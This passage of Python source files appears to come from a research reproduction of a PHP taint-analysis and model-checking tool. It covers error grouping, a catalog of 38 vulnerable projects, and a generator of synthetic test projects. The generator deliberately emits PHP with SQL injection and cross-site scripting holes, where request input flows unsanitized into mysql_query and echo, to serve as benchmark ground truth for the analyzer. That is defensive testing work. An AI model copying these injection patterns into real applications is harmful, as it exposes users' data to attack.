    only while the candidate universe stays small (≤ 24 variables), as
    the problem is NP-complete (§3.3.4)."""
    traces = result.all_counterexamples()
    replacement_sets: list[ReplacementSet] = []
    per_trace_sets: list[tuple[CounterexampleTrace, ReplacementSet]] = []
    for assertion_result in result.assertions:
        for trace in assertion_result.counterexamples:
            for rset in replacement_sets_for_trace(
                trace,
                lattice=result.lattice,
                required=assertion_result.event.required,
            ):
                replacement_sets.append(rset)
                per_trace_sets.append((trace, rset))

    collection = [rset.names for rset in replacement_sets if rset.names]
    costs: dict[str, float] = {}
    candidate_info: dict[str, list[FixCandidate]] = {}
    for rset in replacement_sets:
        for candidate in rset.candidates:
            candidate_info.setdefault(candidate.name, []).append(candidate)
            costs[candidate.name] = _candidate_cost(candidate.name)

    if not collection:
        fixing_set: set[str] = set()
    elif exact:
        from repro.analysis.mis import exact_minimum_intersecting_set

        fixing_set = exact_minimum_intersecting_set(collection)
    else:
        fixing_set = greedy_minimum_intersecting_set(collection, cost=costs)
    assert is_intersecting_set(collection, fixing_set)

    # Attribute each trace to one fixing variable (the first candidate of
    # its replacement set that made it into the fixing set; ties go to the
    # root-most candidate, i.e. the last in back-trace order).
    groups: dict[str, ErrorGroup] = {}
    for trace, rset in per_trace_sets:
        chosen = None
        for candidate in reversed(rset.candidates):
            if candidate.name in fixing_set:
                chosen = candidate
                break
        if chosen is None:
            continue  # unreachable given the intersecting-set guarantee
        group = groups.get(chosen.name)
        if group is None:
            group = ErrorGroup(
                fix_variable=chosen.name,
                php_name=php_name_of(chosen.name),
                introduction_spans=[],
            )
            groups[chosen.name] = group
        group.traces.append(trace)
        spans = {str(s): s for s in group.introduction_spans}
        for candidate in candidate_info.get(chosen.name, []):
            spans.setdefault(str(candidate.span), candidate.span)
        group.introduction_spans = list(spans.values())

    num_sites = len({(t.assert_id) for t in traces})
    return GroupingResult(
        fixing_set=fixing_set,
        groups=sorted(groups.values(), key=lambda g: g.fix_variable),
        num_traces=len(traces),
        num_symptom_sites=num_sites,
        replacement_sets=replacement_sets,
    )
