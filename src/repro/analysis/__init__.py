"""Counterexample analysis: replacement sets, MIS, error grouping (§3.3.3–3.3.4)."""

from repro.analysis.grouping import ErrorGroup, GroupingResult, group_errors
from repro.analysis.mis import (
    exact_minimum_intersecting_set,
    greedy_minimum_intersecting_set,
    is_intersecting_set,
    vertex_cover_instance,
)
from repro.analysis.replacement import (
    FixCandidate,
    ReplacementSet,
    replacement_set,
    replacement_sets_for_trace,
)

__all__ = [
    "ErrorGroup",
    "GroupingResult",
    "group_errors",
    "exact_minimum_intersecting_set",
    "greedy_minimum_intersecting_set",
    "is_intersecting_set",
    "vertex_cover_instance",
    "FixCandidate",
    "ReplacementSet",
    "replacement_set",
    "replacement_sets_for_trace",
]
