"""Replacement sets — paper §3.3.3, Lemma 1.

For each violating variable ``v_α`` of an error trace ``r``, the
replacement set ``s_{v_α}`` is built by tracing back from the violation
point along the trace, recursively adding variables that serve as the
*unique r-value* of single assignments:

    s_{v_α} = {v_α} ∪ s_{v_β}   if the single assignment is ``v_α = v_β``
    s_{v_α} = {v_α}             otherwise

Sanitizing any variable in ``s_{v_α}`` has the same effect as sanitizing
``v_α`` itself (Lemma 1), which is what lets the minimum-fixing-set
optimization move patches from symptom sites to root causes.

The trace is in renamed single-assignment form, so "tracing back"
follows version chains: a *skipped* (guard-false) assignment to ``v``
behaves as the copy ``v^i = v^{i-1}`` and the walk simply drops to the
previous version.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.ai.renaming import IndexedVar
from repro.bmc.trace import CounterexampleTrace, TraceStep
from repro.ir.commands import Const, Join, LevelConst  # noqa: F401 (Const in eval)
from repro.ir.filter import php_name_of
from repro.php.span import Span

__all__ = ["FixCandidate", "ReplacementSet", "replacement_set", "replacement_sets_for_trace"]


@dataclass(frozen=True, slots=True)
class FixCandidate:
    """A variable that can be sanitized to fix a trace.

    Identity for set purposes is the IR variable name; ``span`` records
    where the candidate's value was defined on this trace (the potential
    instrumentation point) and ``php_name`` the original source-level
    variable (None for synthetic temporaries).
    """

    name: str
    span: Span

    @property
    def php_name(self) -> str | None:
        return php_name_of(self.name)

    @property
    def is_synthetic(self) -> bool:
        return self.php_name is None


@dataclass
class ReplacementSet:
    """``s_{v_α}`` for one violating variable of one trace."""

    violating: IndexedVar
    candidates: list[FixCandidate] = field(default_factory=list)

    @property
    def names(self) -> set[str]:
        return {c.name for c in self.candidates}

    def __contains__(self, name: str) -> bool:
        return any(c.name == name for c in self.candidates)

    def __len__(self) -> int:
        return len(self.candidates)


def _step_index(steps: list[TraceStep]) -> dict[tuple[str, int], TraceStep]:
    return {(step.target.name, step.target.index): step for step in steps}


def _trace_levels(trace: CounterexampleTrace, lattice) -> dict[tuple[str, int], object]:
    """Concrete lattice level of every assigned version on this trace."""
    levels: dict[tuple[str, int], object] = {}
    state: dict[str, object] = {}

    def eval_expr(expr) -> object:
        if isinstance(expr, IndexedVar):
            return state.get(expr.name, lattice.bottom)
        if isinstance(expr, Join):
            return lattice.join_all(eval_expr(op) for op in expr.operands)
        if isinstance(expr, LevelConst):
            return expr.level
        return lattice.bottom  # Const

    for step in trace.steps:
        value = eval_expr(step.expr)
        state[step.target.name] = value
        levels[(step.target.name, step.target.index)] = value
    return levels


def _copy_source(
    step: TraceStep,
    levels: dict[tuple[str, int], object] | None,
    lattice,
    required,
) -> IndexedVar | None:
    """The unique *offending* r-value of an assignment, or None.

    A pure copy ``v_α = v_β`` always qualifies (paper Lemma 1).  With
    trace levels available, a join also qualifies when exactly one
    variable operand carries a violating level on this trace: the other
    operands are already below ``τ_r``, so sanitizing the one offender
    removes the trace just like sanitizing ``v_α`` itself would.
    """
    if isinstance(step.expr, IndexedVar):
        return step.expr
    if isinstance(step.expr, Join):
        operands = [op for op in step.expr.operands if isinstance(op, IndexedVar)]
        if len(step.expr.operands) == 1 and operands:
            return operands[0]
        if levels is not None and lattice is not None and required is not None:
            if any(
                isinstance(op, LevelConst) and not lattice.lt(op.level, required)
                for op in step.expr.operands
            ):
                return None  # a fixed-level operand offends; no variable fix
            offenders = [
                op
                for op in operands
                if not lattice.lt(_level_of(op, levels, lattice), required)
            ]
            if len(offenders) == 1:
                return offenders[0]
    return None


def _level_of(var: IndexedVar, levels: dict[tuple[str, int], object], lattice) -> object:
    index = var.index
    while index > 0:
        value = levels.get((var.name, index))
        if value is not None:
            return value
        index -= 1  # skipped version: value flows from the previous one
    return lattice.bottom


def replacement_set(
    trace: CounterexampleTrace,
    violating: IndexedVar,
    lattice=None,
    required=None,
) -> ReplacementSet:
    """Build ``s_{v_α}`` by walking the trace backwards from ``violating``.

    ``lattice``/``required`` enable the single-offender join refinement
    (see :func:`_copy_source`); without them only pure copies expand —
    the paper's literal rule.
    """
    steps = _step_index(trace.steps)
    levels = _trace_levels(trace, lattice) if lattice is not None else None
    result = ReplacementSet(violating=violating)
    seen: set[str] = set()

    current: IndexedVar | None = violating
    while current is not None:
        # Find the executed assignment that produced this version,
        # dropping through skipped versions (v^i = v^{i-1}).
        producer: TraceStep | None = None
        index = current.index
        while index > 0:
            step = steps.get((current.name, index))
            if step is not None:
                producer = step
                break
            index -= 1

        if current.name not in seen:
            seen.add(current.name)
            span = producer.span if producer is not None else trace.span
            result.candidates.append(FixCandidate(current.name, span))

        if producer is None:
            break  # never assigned on this trace (initial version)
        source = _copy_source(producer, levels, lattice, required)
        if source is None:
            break  # not a pure copy: taint introduced or merged here
        if source.name in seen and _is_self_chain(source, current):
            break  # guard against degenerate self-copies
        current = source
    return result


def _is_self_chain(source: IndexedVar, current: IndexedVar) -> bool:
    return source.name == current.name and source.index >= current.index


def replacement_sets_for_trace(
    trace: CounterexampleTrace, lattice=None, required=None
) -> list[ReplacementSet]:
    """``s_v`` for every violating variable of the trace."""
    return [
        replacement_set(trace, violation.var, lattice=lattice, required=required)
        for violation in trace.violating
    ]
