"""Whole-corpus workloads: the 230-project SourceForge sample (§5).

``generate_corpus`` reconstructs the evaluation population:

* the 38 Figure 10 projects (exact TS/BMC topologies from the catalog),
* 31 further vulnerable projects (the paper found 69 vulnerable in
  total; only 38 developers acknowledged) with deterministic
  pseudo-random error topologies, and
* 161 clean projects.

Project sizes (files, statements) are drawn to approximate the paper's
aggregates — 11,848 files and 1,140,091 statements over 230 projects —
scaled by the ``scale`` parameter so test runs stay fast while the
*ratios* (statements per file, vulnerable-file fraction) are preserved.
At ``scale=1.0`` the generator emits a corpus of roughly the paper's
physical size; the default benchmark scale is far smaller.
"""

from __future__ import annotations

import random

from repro.corpus.catalog import CORPUS_AGGREGATES, FIGURE_10
from repro.corpus.generator import (
    GeneratedProject,
    ProjectSpec,
    generate_project,
    spec_from_catalog,
)

__all__ = ["generate_corpus", "corpus_statistics", "CorpusStatistics"]


def _size_targets(rng: random.Random, scale: float) -> tuple[int, int]:
    """Draw (files, statements) for one project, matching corpus ratios.

    The corpus averages ~51.5 files and ~4,957 statements per project
    with a heavy tail (a few huge CMSes, many small tools); a log-normal
    spread around the scaled means mimics that without the originals.
    """
    mean_files = CORPUS_AGGREGATES["num_files"] / CORPUS_AGGREGATES["num_projects"]
    mean_statements = (
        CORPUS_AGGREGATES["num_statements"] / CORPUS_AGGREGATES["num_projects"]
    )
    spread = rng.lognormvariate(0.0, 0.6)
    files = max(2, round(mean_files * scale * spread))
    statements = max(20, round(mean_statements * scale * spread))
    return files, statements


def generate_corpus(scale: float = 0.02, seed: int = 2004) -> list[GeneratedProject]:
    """Generate the full 230-project population at the given scale."""
    rng = random.Random(seed)
    projects: list[GeneratedProject] = []

    # 1. The 38 acknowledged projects, exactly as catalogued.
    for entry in FIGURE_10:
        files, statements = _size_targets(rng, scale)
        spec = spec_from_catalog(
            entry,
            target_files=max(2, files),
            target_statements=statements,
            seed=rng.randrange(2**31),
        )
        projects.append(generate_project(spec))

    # 2. 31 vulnerable-but-unacknowledged projects.
    extra_vulnerable = (
        CORPUS_AGGREGATES["num_vulnerable_projects"]
        - CORPUS_AGGREGATES["num_acknowledged_projects"]
    )
    for index in range(extra_vulnerable):
        files, statements = _size_targets(rng, scale)
        groups = rng.randint(1, 12)
        symptoms = groups + rng.randint(0, groups * 3)
        spec = ProjectSpec(
            name=f"unacknowledged-{index:02d}",
            ts_errors=symptoms,
            bmc_groups=groups,
            activity=rng.randrange(100),
            target_files=max(2, files),
            target_statements=statements,
            seed=rng.randrange(2**31),
        )
        projects.append(generate_project(spec))

    # 3. Clean projects to reach 230.
    clean = CORPUS_AGGREGATES["num_projects"] - len(projects)
    for index in range(clean):
        files, statements = _size_targets(rng, scale)
        spec = ProjectSpec(
            name=f"clean-{index:03d}",
            ts_errors=0,
            bmc_groups=0,
            activity=rng.randrange(100),
            target_files=max(2, files),
            target_statements=statements,
            seed=rng.randrange(2**31),
        )
        projects.append(generate_project(spec))

    return projects


class CorpusStatistics(dict):
    """Aggregate structural statistics of a generated corpus."""


def corpus_statistics(projects: list[GeneratedProject]) -> CorpusStatistics:
    """Structural counts (no analysis): files, statements, seeded topology."""
    from repro.php.parser import parse
    from repro.websari.pipeline import count_statements

    num_files = 0
    num_statements = 0
    vulnerable_projects = 0
    vulnerable_files = 0
    total_ts = 0
    total_bmc = 0
    for generated in projects:
        num_files += len(generated.project)
        for path in generated.project.paths():
            num_statements += count_statements(
                parse(generated.project.source(path), path)
            )
        if generated.clusters:
            vulnerable_projects += 1
            vulnerable_files += len(generated.vulnerable_files)
        total_ts += generated.expected_ts
        total_bmc += generated.expected_bmc
    return CorpusStatistics(
        num_projects=len(projects),
        num_files=num_files,
        num_statements=num_statements,
        num_vulnerable_projects=vulnerable_projects,
        num_vulnerable_files=vulnerable_files,
        seeded_ts_errors=total_ts,
        seeded_bmc_groups=total_bmc,
    )
