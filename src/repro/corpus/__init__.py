"""Synthetic evaluation corpus: the Figure 10 catalog, the project
generator, and whole-corpus workloads (see DESIGN.md §5 on this
substitution for the original SourceForge sample)."""

from repro.corpus.catalog import (
    CORPUS_AGGREGATES,
    FIGURE_10,
    PAPER_TOTALS,
    CatalogEntry,
    catalog_totals,
)
from repro.corpus.generator import (
    ClusterTruth,
    GeneratedProject,
    ProjectSpec,
    generate_catalog_project,
    generate_project,
    partition_errors,
    spec_from_catalog,
)
from repro.corpus.workloads import CorpusStatistics, corpus_statistics, generate_corpus

__all__ = [
    "CORPUS_AGGREGATES",
    "FIGURE_10",
    "PAPER_TOTALS",
    "CatalogEntry",
    "catalog_totals",
    "ClusterTruth",
    "GeneratedProject",
    "ProjectSpec",
    "generate_catalog_project",
    "generate_project",
    "partition_errors",
    "spec_from_catalog",
    "CorpusStatistics",
    "corpus_statistics",
    "generate_corpus",
]
