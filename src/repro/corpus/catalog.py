"""The Figure 10 catalog: the 38 vulnerable SourceForge projects.

These are the projects whose developers acknowledged the authors'
notifications, with the paper's reported per-project activity rating,
TS-reported error count, and BMC-reported error-introduction count.

Transcription note: the per-project BMC column sums to exactly the
paper's stated total of 578.  The TS column as printed sums to 969,
not the stated 980 (an 11-error discrepancy already present in the
publication/OCR); EXPERIMENTS.md discusses this.  The headline 41.0%
reduction is computed from the stated totals (980 → 578); the catalog
as transcribed gives 40.4%.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["CatalogEntry", "FIGURE_10", "catalog_totals", "PAPER_TOTALS", "CORPUS_AGGREGATES"]


@dataclass(frozen=True, slots=True)
class CatalogEntry:
    """One row of Figure 10."""

    name: str
    activity: int  # SourceForge project activity percentile
    ts_errors: int  # TS-reported individual errors
    bmc_groups: int  # BMC-reported error introductions

    @property
    def reduction(self) -> float:
        if self.ts_errors == 0:
            return 0.0
        return 100.0 * (self.ts_errors - self.bmc_groups) / self.ts_errors


FIGURE_10: tuple[CatalogEntry, ...] = (
    CatalogEntry("GBook MX", 60, 4, 2),
    CatalogEntry("AthenaRMS", 0, 3, 2),
    CatalogEntry("PHPCodeCabinet", 71, 25, 25),
    CatalogEntry("BolinOS", 94, 3, 3),
    CatalogEntry("PHP Surveyor", 99, 169, 90),
    CatalogEntry("Booby", 90, 5, 4),
    CatalogEntry("ByteHoard", 98, 2, 2),
    CatalogEntry("PHPRecipeBook", 99, 11, 8),
    CatalogEntry("phpLDAPadmin", 97, 25, 13),
    CatalogEntry("Segue CMS", 77, 11, 9),
    CatalogEntry("Moregroupware", 99, 7, 7),
    CatalogEntry("iNuke", 0, 3, 3),
    CatalogEntry("InfoCentral", 82, 206, 57),
    CatalogEntry("WebMovieDB", 24, 7, 5),
    CatalogEntry("TestLink", 88, 69, 48),
    CatalogEntry("Crafty Syntax Live Help", 96, 16, 1),
    CatalogEntry("ILIAS open source", 20, 2, 2),
    CatalogEntry("PHP Multiple Newsletters", 68, 30, 30),
    CatalogEntry("International Suspect Vigilance Nexus", 0, 20, 12),
    CatalogEntry("SquirrelMail", 99, 7, 7),
    CatalogEntry("PHPMyList", 69, 10, 4),
    CatalogEntry("EGroupWare", 99, 4, 4),
    CatalogEntry("PHPFriendlyAdmin", 87, 16, 16),
    CatalogEntry("PHP Helpdesk", 87, 1, 1),
    CatalogEntry("Media Mate", 0, 53, 16),
    CatalogEntry("Obelus Helpdesk", 22, 8, 6),
    CatalogEntry("eDreamers", 80, 7, 1),
    CatalogEntry("Mad.Thought", 66, 4, 4),
    CatalogEntry("PHPLetter", 79, 23, 23),
    CatalogEntry("WebArchive", 2, 7, 2),
    CatalogEntry("Nalanda", 58, 27, 8),
    CatalogEntry("Site@School", 94, 46, 40),
    CatalogEntry("PHPList", 0, 16, 1),
    CatalogEntry("PHPPgAdmin", 98, 3, 3),
    CatalogEntry("Anonymous Mailer", 73, 7, 7),
    CatalogEntry("PHP Support Tickets", 0, 40, 40),
    CatalogEntry("Norfolk Household Financial Manager", 0, 60, 60),
    CatalogEntry("Tiki CMS Groupware", 99, 12, 12),
)

#: Totals as stated in the paper's text (§5 / Figure 10 footer).
PAPER_TOTALS = {
    "ts_errors": 980,
    "bmc_groups": 578,
    "reduction_percent": 41.0,
}

#: Whole-corpus aggregates from §5.
CORPUS_AGGREGATES = {
    "num_projects": 230,
    "num_files": 11_848,
    "num_statements": 1_140_091,
    "num_vulnerable_files": 515,
    "num_vulnerable_projects": 69,
    "num_acknowledged_projects": 38,
}


def catalog_totals() -> dict[str, float]:
    """Sums over the transcribed catalog rows."""
    ts = sum(entry.ts_errors for entry in FIGURE_10)
    bmc = sum(entry.bmc_groups for entry in FIGURE_10)
    return {
        "ts_errors": ts,
        "bmc_groups": bmc,
        "reduction_percent": 100.0 * (ts - bmc) / ts if ts else 0.0,
    }
