"""Synthetic SourceForge-style PHP project generator.

The paper's corpus — 230 open-source PHP applications of 2003 vintage —
is not reproducible offline, so the evaluation substitutes *generated*
projects whose seeded vulnerability **topology** matches each Figure 10
row: a project reported as (TS=t, BMC=b) is generated with ``b``
independent taint clusters whose sizes partition ``t``.  The analyzer is
never shown this ground truth; it must rediscover the counts by running
the real TS and BMC pipelines over the generated source (which is what
the FIG10 benchmark does).

Cluster shapes rotate through the propagation patterns the paper
describes (§2, Figure 7): plain copy stars, copy chains, conditional
root assignment (GET-or-POST, exactly Figure 7 line 1), propagation
through a user-defined function, and sinks inside loops.  Each shape
guarantees: TS reports one error per sink use, and the cluster's minimal
fixing set is exactly its root variable.

Benign filler — constants, sanitized input handling, helper functions,
inline HTML, loops over static arrays — pads projects toward a target
statement count without adding violations.
"""

from __future__ import annotations

import random
import zlib
from dataclasses import dataclass, field

from repro.corpus.catalog import FIGURE_10, CatalogEntry
from repro.php.includes import SourceProject

__all__ = [
    "ProjectSpec",
    "ClusterTruth",
    "GeneratedProject",
    "FuzzProgram",
    "partition_errors",
    "generate_project",
    "generate_fuzz_program",
    "spec_from_catalog",
]


@dataclass(frozen=True)
class ProjectSpec:
    """What to generate for one project."""

    name: str
    ts_errors: int
    bmc_groups: int
    activity: int = 50
    #: Approximate statement budget for benign filler.
    target_statements: int = 120
    #: Approximate number of page files to spread content over.
    target_files: int = 4
    seed: int | None = None

    def rng(self) -> random.Random:
        seed = self.seed if self.seed is not None else zlib.crc32(self.name.encode())
        return random.Random(seed)


@dataclass(frozen=True)
class ClusterTruth:
    """Ground truth for one seeded vulnerability cluster."""

    root_variable: str
    size: int
    shape: str
    file: str


@dataclass
class GeneratedProject:
    spec: ProjectSpec
    project: SourceProject
    clusters: list[ClusterTruth] = field(default_factory=list)

    @property
    def expected_ts(self) -> int:
        return sum(c.size for c in self.clusters)

    @property
    def expected_bmc(self) -> int:
        return len(self.clusters)

    @property
    def vulnerable_files(self) -> set[str]:
        return {c.file for c in self.clusters}


def spec_from_catalog(entry: CatalogEntry, **overrides) -> ProjectSpec:
    defaults = dict(
        name=entry.name,
        ts_errors=entry.ts_errors,
        bmc_groups=entry.bmc_groups,
        activity=entry.activity,
    )
    defaults.update(overrides)
    return ProjectSpec(**defaults)


def partition_errors(ts_errors: int, bmc_groups: int, rng: random.Random) -> list[int]:
    """Split ``ts_errors`` symptoms into ``bmc_groups`` clusters, each >= 1.

    Mirrors the many-to-one symptom/cause structure of the corpus: most
    clusters are small, a few are large (PHP Surveyor's $sid reached 16
    sites from one root).
    """
    if bmc_groups < 0 or ts_errors < 0:
        raise ValueError("counts must be non-negative")
    if bmc_groups == 0:
        if ts_errors:
            raise ValueError("cannot have symptoms without groups")
        return []
    if ts_errors < bmc_groups:
        raise ValueError("need at least one symptom per group")
    sizes = [1] * bmc_groups
    extra = ts_errors - bmc_groups
    # Skewed allocation: each surplus symptom lands on a random cluster,
    # with a bias toward cluster 0 to create one dominant root cause.
    for _ in range(extra):
        index = 0 if rng.random() < 0.35 else rng.randrange(bmc_groups)
        sizes[index] += 1
    return sizes


_SHAPES = ("star", "chain", "conditional", "function", "loop", "class", "include")

_SOURCES = (
    "$_GET['{key}']",
    "$_POST['{key}']",
    "$_COOKIE['{key}']",
    "$_REQUEST['{key}']",
)

_SQL_SINKS = ("mysql_query", "DoSQL")


class _ClusterWriter:
    """Emits PHP for one vulnerability cluster."""

    def __init__(self, index: int, size: int, shape: str, rng: random.Random) -> None:
        self.index = index
        self.size = size
        self.shape = shape
        self.rng = rng
        self.root = f"data{index}"
        #: Extra project files this cluster needs (include-spanning shape).
        self.extra_files: dict[str, str] = {}

    def _source(self) -> str:
        template = self.rng.choice(_SOURCES)
        return template.format(key=f"p{self.index}")

    def _sink_line(self, variable: str, use: int) -> str:
        choice = self.rng.randrange(3)
        if choice == 0:
            sink = self.rng.choice(_SQL_SINKS)
            return (
                f'$q{self.index}_{use} = "SELECT * FROM t{use} WHERE k=${variable}"; '
                f"{sink}($q{self.index}_{use});"
            )
        if choice == 1:
            return f"echo ${variable};"
        return f'mysql_query("UPDATE t{use} SET v=\'${variable}\'");'

    def lines(self) -> list[str]:
        root = self.root
        out: list[str] = [f"// cluster {self.index}: {self.shape}"]
        if self.shape == "conditional":
            out.append(
                f"${root} = {self._source()}; "
                f"if (!${root}) {{ ${root} = $_POST['alt{self.index}']; }}"
            )
        else:
            out.append(f"${root} = {self._source()};")

        if self.shape == "chain":
            previous = root
            for use in range(self.size):
                var = f"{root}_c{use}"
                out.append(f"${var} = ${previous};")
                out.append(self._sink_line(var, use))
                previous = var
            return out

        if self.shape == "include":
            # Taint crosses a file boundary: the root assignment lives in
            # an include file (safe when analyzed standalone — no sinks);
            # the page includes it and uses the value.
            inc_path = f"inc/src{self.index}.php"
            self.extra_files[inc_path] = (
                "<?php\n"
                f"// shared request parsing for cluster {self.index}\n"
                f"${self.root} = {self._source()};\n"
            )
            out = [f"// cluster {self.index}: include", f"include '{inc_path}';"]
            for use in range(self.size):
                var = f"{self.root}_u{use}"
                out.append(f"${var} = ${self.root};")
                out.append(self._sink_line(var, use))
            return out

        if self.shape == "class":
            # Taint enters through a PHP4-style class: the constructor
            # stores the untrusted value in a property, an accessor leaks
            # it to each sink.  The minimal fix is the property itself.
            holder = f"Holder{self.index}"
            obj = f"obj{self.index}"
            out = [
                f"// cluster {self.index}: class",
                f"class {holder} {{",
                "  var $v;",
                f"  function {holder}($x) {{ $this->v = $x; }}",
                f"  function get{self.index}() {{ return $this->v; }}",
                "}",
                f"${obj} = new {holder}({self._source()});",
            ]
            for use in range(self.size):
                var = f"{self.root}_u{use}"
                out.append(f"${var} = ${obj}->get{self.index}();")
                out.append(self._sink_line(var, use))
            return out

        if self.shape == "function":
            helper = f"pass{self.index}"
            out.insert(1, f"function {helper}($v) {{ return $v; }}")
            for use in range(self.size):
                var = f"{root}_u{use}"
                out.append(f"${var} = {helper}(${root});")
                out.append(self._sink_line(var, use))
            return out

        if self.shape == "loop" and self.size >= 1:
            # One sink lives inside a loop; the rest are plain copies.
            var = f"{root}_l"
            out.append(
                f"while ($more{self.index}) {{ ${var} = ${root}; "
                + self._sink_line(var, 0).rstrip()
                + " }"
            )
            for use in range(1, self.size):
                copy = f"{root}_u{use}"
                out.append(f"${copy} = ${root};")
                out.append(self._sink_line(copy, use))
            return out

        # star / conditional body: independent copies of the root.
        for use in range(self.size):
            var = f"{root}_u{use}"
            out.append(f"${var} = ${root};")
            out.append(self._sink_line(var, use))
        return out


_FILLER_BLOCKS = (
    # Each block is definitely-safe PHP; {n} is a uniquifier.
    "$title{n} = 'Page {n}'; $version{n} = '1.0.{n}'; echo $title{n};",
    "$page{n} = intval($_GET['page{n}']); echo 'page ' . $page{n};",
    "$safe{n} = htmlspecialchars($_POST['comment{n}']); echo $safe{n};",
    "$items{n} = array('a', 'b', 'c'); foreach ($items{n} as $item{n}) {{ echo 'item: const'; }}",
    "for ($i{n} = 0; $i{n} < 10; $i{n}++) {{ $total{n} = $total{n} + $i{n}; }}",
    "function helper{n}($x) {{ return $x . ' ok'; }} $h{n} = helper{n}('v'); echo $h{n};",
    "if ($mode{n} == 'admin') {{ $label{n} = 'Administrator'; }} else {{ $label{n} = 'Guest'; }} echo $label{n};",
    "$id{n} = (int)$_REQUEST['id{n}']; mysql_query('SELECT * FROM items WHERE id=' . $id{n});",
    "$count{n} = count(array(1, 2, 3)); echo 'count: ' . $count{n};",
    "$config{n} = array('host' => 'localhost', 'port' => 3306); echo $config{n}['host'];",
    "$now{n} = date('Y-m-d'); echo 'generated ' . $now{n};",
    "switch ($lang{n}) {{ case 'en': $msg{n} = 'Hello'; break; default: $msg{n} = 'Hi'; }} echo $msg{n};",
)

_HTML_SNIPPETS = (
    "<html><head><title>page</title></head><body>",
    "<table><tr><td>static</td></tr></table>",
    "<div class='footer'>&copy; 2004</div></body></html>",
    "<form method='post'><input name='q'></form>",
)


def generate_project(spec: ProjectSpec) -> GeneratedProject:
    """Generate one project matching the spec's vulnerability topology."""
    rng = spec.rng()
    sizes = partition_errors(spec.ts_errors, spec.bmc_groups, rng)

    num_pages = max(spec.target_files - 1, 1)
    pages: list[list[str]] = [[] for _ in range(num_pages)]
    clusters: list[ClusterTruth] = []

    extra_files: dict[str, str] = {}
    for index, size in enumerate(sizes):
        shape = rng.choice(_SHAPES)
        writer = _ClusterWriter(index, size, shape, rng)
        page = index % num_pages
        pages[page].extend(writer.lines())
        extra_files.update(writer.extra_files)
        clusters.append(
            ClusterTruth(
                root_variable=writer.root,
                size=size,
                shape=shape,
                file=f"page{page}.php",
            )
        )

    # Spread filler to approximate the statement budget.
    filler_budget = max(spec.target_statements - spec.ts_errors * 3, num_pages * 2)
    uniquifier = 0
    while filler_budget > 0:
        page = rng.randrange(num_pages)
        block = rng.choice(_FILLER_BLOCKS).format(n=uniquifier)
        pages[page].append(block)
        uniquifier += 1
        filler_budget -= 3  # rough statements per block

    files: dict[str, str] = {
        "lib/common.php": _common_library(spec, rng),
        **extra_files,
    }
    for page_index, body in enumerate(pages):
        html_top = rng.choice(_HTML_SNIPPETS)
        html_bottom = rng.choice(_HTML_SNIPPETS)
        content = "\n".join(body)
        files[f"page{page_index}.php"] = (
            f"{html_top}\n<?php\ninclude 'lib/common.php';\n{content}\n?>\n{html_bottom}\n"
        )
    files["index.php"] = _index_file(num_pages, spec)

    return GeneratedProject(
        spec=spec,
        project=SourceProject(files),
        clusters=clusters,
    )


def _common_library(spec: ProjectSpec, rng: random.Random) -> str:
    return (
        "<?php\n"
        f"// {spec.name} — shared configuration\n"
        "$app_name = '" + spec.name.replace("'", "") + "';\n"
        "$app_version = '0.9." + str(rng.randrange(10)) + "';\n"
        "function render_header($title) { echo '<h1>' . htmlspecialchars($title) . '</h1>'; }\n"
        "function db_connect() { mysql_connect('localhost'); mysql_select_db('app'); return true; }\n"
    )


def _index_file(num_pages: int, spec: ProjectSpec) -> str:
    links = "\n".join(
        f"echo '<a href=page{i}.php>page {i}</a>';" for i in range(num_pages)
    )
    return (
        "<?php\n"
        "include 'lib/common.php';\n"
        "render_header($app_name);\n"
        f"{links}\n"
    )


def generate_catalog_project(entry: CatalogEntry, **overrides) -> GeneratedProject:
    """Generate the synthetic stand-in for one Figure 10 project."""
    # Scale page count with the error count so large projects (PHP
    # Surveyor, InfoCentral) spread over more files, like the originals.
    target_files = max(2, min(12, 1 + entry.bmc_groups // 4))
    spec = spec_from_catalog(entry, target_files=target_files, **overrides)
    return generate_project(spec)


# -- differential-fuzzing programs ------------------------------------------


@dataclass(frozen=True)
class FuzzProgram:
    """A random loop-free F(p) program plus the request knobs driving it.

    Built for *differential* testing of the static pipeline against the
    concrete interpreter: every branch condition reads a dedicated
    ``$_GET`` key exactly once, so the program's 2**k concrete executions
    (each ``branch_params`` key present-truthy or absent) correspond
    one-to-one with the BMC's enumerated paths, and the attack payload
    arrives only through ``payload_param``.
    """

    source: str
    #: ``$_GET`` keys steering each ``if``, in program order.
    branch_params: tuple[str, ...]
    #: The ``$_GET`` key carrying the attack payload on every request.
    payload_param: str


def generate_fuzz_program(
    rng: random.Random,
    *,
    statements: int = 8,
    max_branches: int = 3,
) -> FuzzProgram:
    """Generate one random loop-free program for differential fuzzing.

    Statements draw from taint introduction, constant overwrite, copies,
    concatenation, ``htmlspecialchars`` sanitization, and ``echo`` /
    ``mysql_query`` sinks — the F(p) fragment where information flows
    only through whole-string operations.  That restriction is what makes
    a marker payload a faithful concrete taint oracle: string ops
    preserve the marker as a substring and sanitization destroys it, so
    "marker observable at a sink" coincides with "tainted at the sink".
    """
    variables = [f"v{i}" for i in range(4)]
    branch_params: list[str] = []

    def simple_statement() -> str:
        kind = rng.choice(
            ["taint", "const", "copy", "concat", "sanitize", "echo", "sql"]
        )
        var = rng.choice(variables)
        src = rng.choice(variables)
        other = rng.choice(variables)
        if kind == "taint":
            return f"${var} = $_GET['p'];"
        if kind == "const":
            return f"${var} = 'lit{rng.randrange(4)}';"
        if kind == "copy":
            return f"${var} = ${src};"
        if kind == "concat":
            return f"${var} = ${src} . ${other};"
        if kind == "sanitize":
            return f"${var} = htmlspecialchars(${src});"
        if kind == "echo":
            return f"echo ${var};"
        return f"mysql_query('SELECT * FROM items WHERE id=' . ${var});"

    lines: list[str] = []
    for _ in range(statements):
        if len(branch_params) < max_branches and rng.random() < 0.35:
            key = f"b{len(branch_params)}"
            branch_params.append(key)
            then_body = simple_statement()
            if rng.random() < 0.5:
                lines.append(
                    f"if ($_GET['{key}']) {{ {then_body} }}"
                    f" else {{ {simple_statement()} }}"
                )
            else:
                lines.append(f"if ($_GET['{key}']) {{ {then_body} }}")
        else:
            lines.append(simple_statement())

    source = "<?php\n" + "\n".join(lines) + "\n"
    return FuzzProgram(
        source=source, branch_params=tuple(branch_params), payload_param="p"
    )
