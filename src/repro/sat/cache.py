"""SAT-level query memoization: the cold-run accelerator.

The engine's file-level :class:`~repro.engine.cache.ResultCache` only
pays off when an *identical file* is re-audited.  Real PHP corpora (and
the Figure-10 generator) are full of structurally identical code shapes
under different identifier names: every such file re-runs the same CDCL
